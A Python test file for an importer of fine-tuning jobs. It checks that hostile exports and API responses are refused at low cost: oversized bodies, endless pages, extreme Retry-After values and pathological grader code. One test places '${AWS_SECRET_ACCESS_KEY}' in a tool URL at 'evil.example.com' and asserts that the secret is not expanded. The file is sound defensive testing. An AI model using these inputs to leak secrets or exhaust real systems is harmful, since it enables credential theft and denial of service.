"""Importing what somebody else wrote: an export, or an API that is not OpenAI's, costs little and names no variable."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_rft.cli.openai_import.export_source import MAX_BODY_BYTES, FolderSource
from agent_rft.cli.openai_import.import_folder import import_job
from agent_rft.cli.openai_import.openai_source import MAX_WAIT_S
from agent_rft.errors import InvalidJob, RftError, UserError
from agent_rft.spec.job_file import load_job
from tests.support.budget import MIB, budget
from tests.support.imports import run
from tests.support.openai_api import FakeOpenAI, Reply, refusal
from tests.support.openai_jobs import JOB_ID, ROW, lines, record, recorded, reinforcement


@pytest.fixture
def api() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as served:
        record(served, recorded(reinforcement()))
        yield served


def exported(folder: Path, method: dict[str, Any], rows: bytes = lines(ROW)) -> FolderSource:
    (folder / "export").mkdir()
    (folder / "export" / "job.json").write_text(json.dumps(recorded(method)))
    for name in ("train", "validation"):
        (folder / "export" / f"{name}.jsonl").write_bytes(rows)
    return FolderSource(folder / "export")


def left_in(folder: Path) -> list[str]:
    return [path.name for path in folder.iterdir() if path.name != "export"]


@pytest.mark.parametrize("path", [f"/fine_tuning/jobs/{JOB_ID}", f"/fine_tuning/jobs/{JOB_ID}/events"])
def test_an_answer_without_end_is_cut_off(path: str, api: FakeOpenAI, tmp_path: Path) -> None:
    body = b'{"id": "' + b"a" * (3 * MAX_BODY_BYTES)
    api.instead = lambda asked, times: Reply(200, body) if asked == path else None
    with budget(cpu_s=3, mib=150), pytest.raises(UserError, match="larger than"):
        run(api, tmp_path)

    assert not left_in(tmp_path)


def test_an_error_without_end_is_cut_off(api: FakeOpenAI, tmp_path: Path) -> None:
    body = b'{"error": {"message": "' + b"a" * (3 * MAX_BODY_BYTES)
    api.instead = lambda asked, times: Reply(400, body)
    with budget(cpu_s=3, mib=150), pytest.raises(UserError, match="HTTP 400 Bad Request;"):
        run(api, tmp_path)


def test_a_file_larger_than_the_limit_is_not_kept(api: FakeOpenAI, tmp_path: Path) -> None:
    api.files["file-train"] = lines(ROW) * 20_000
    with pytest.raises(UserError, match="/files/file-train/content is larger than"):
        run(api, tmp_path, max_file_bytes=MIB)

    assert not left_in(tmp_path)


def test_an_api_cannot_make_the_import_wait_for_days(api: FakeOpenAI, tmp_path: Path) -> None:
    api.instead = lambda path, times: refusal(429, "later", Retry_After="1e9")
    waits: list[float] = []
    with pytest.raises(RftError):
        run(api, tmp_path, waits=waits)

    assert waits and max(waits) <= 1.1 * MAX_WAIT_S


def test_a_list_that_never_ends_is_cut_off(api: FakeOpenAI, tmp_path: Path) -> None:
    page = json.dumps({"data": api.events[:100], "has_more": True}).encode()
    api.instead = lambda path, times: Reply(200, page) if path.endswith("/events") else None
    run(api, tmp_path)

    assert api.asked[f"/fine_tuning/jobs/{JOB_ID}/events"] == 5


def test_a_row_without_end_costs_little(tmp_path: Path) -> None:
    source = exported(tmp_path, reinforcement())
    with (tmp_path / "export" / "train.jsonl").open("r+b") as file:
        file.truncate(200 * MIB)  # one line of zeros, which take no room on the disk
    with budget(cpu_s=5, mib=150), pytest.raises(InvalidJob, match="the row is larger than"):
        import_job(source, tmp_path / "moved", {}, None)

    assert not left_in(tmp_path)


def test_a_file_of_mistakes_costs_little_and_gives_a_short_list(tmp_path: Path) -> None:
    source = exported(tmp_path, reinforcement(), b"{]\n" * 1_000_000)
    with budget(cpu_s=2, mib=50), pytest.raises(InvalidJob) as error:
        import_job(source, tmp_path / "moved", {}, None)

    assert len(str(error.value)) < 10_000


DEEP: Any = "a"
for _ in range(150):
    DEEP = {"properties": {"a": DEEP}}


@pytest.mark.parametrize(
    "method",
    [
        reinforcement({"type": "python", "source": "def grade(sample, item): return " + "(" * 50_000}),
        reinforcement({"type": "python", "source": "a = " + "-" * 200_000 + "1\ndef grade(sample, item): return a"}),
        reinforcement({"type": "multi", "graders": {"a": {}}, "calculate_output": "(" * 100_000}),
        reinforcement({f"key{i}": 1 for i in range(20_000)}),
        reinforcement(response_format={"type": "json_schema", "json_schema": {"name": "a", "schema": DEEP}}),
        reinforcement(tools=[{"name": f"t{i}", "server_url": "http://" + "a." * 20_000} for i in range(50)]),
    ],
    ids=["parentheses", "signs", "expression", "keys", "schema", "hosts"],
)
def test_a_hostile_definition_is_refused_or_taken_at_a_small_cost(method: dict[str, Any], tmp_path: Path) -> None:
    source = exported(tmp_path, method)
    with budget(cpu_s=5, mib=150):
        try:
            import_job(source, tmp_path / "moved", {}, None)
        except UserError:
            assert not left_in(tmp_path)


@pytest.mark.parametrize("text", ["${AWS_SECRET_ACCESS_KEY}", "$${HOME}", "${DOLLAR}{HOME}"])
def test_a_job_of_somebody_else_reads_no_variable(text: str, tmp_path: Path) -> None:
    tools = [
        {"name": "a", "server_url": f"https://evil.example.com/{text}", "headers": {"X": text}, "idempotent": True}
    ]
    grader = {"type": "string_check", "input": text, "reference": "b", "operation": "eq", "name": text}
    import_job(exported(tmp_path, reinforcement(grader, tools=tools)), tmp_path / "moved", {}, None)

    theirs = {"AWS_SECRET_ACCESS_KEY": "s3cret", "HOME": "s3cret"}
    needed = {"DOLLAR": "$", "KEY_EVIL_EXAMPLE_COM_X": "ours"}
    job = load_job(tmp_path / "moved" / "job.yaml", theirs | needed)
    assert "s3cret" not in repr(job.model_dump()) and job.reinforcement.grader.name == text
    assert job.reinforcement.tools[0].server_url == f"https://evil.example.com/{text}"
    assert job.reinforcement.tools[0].headers["X"].get_secret_value() == "ours"
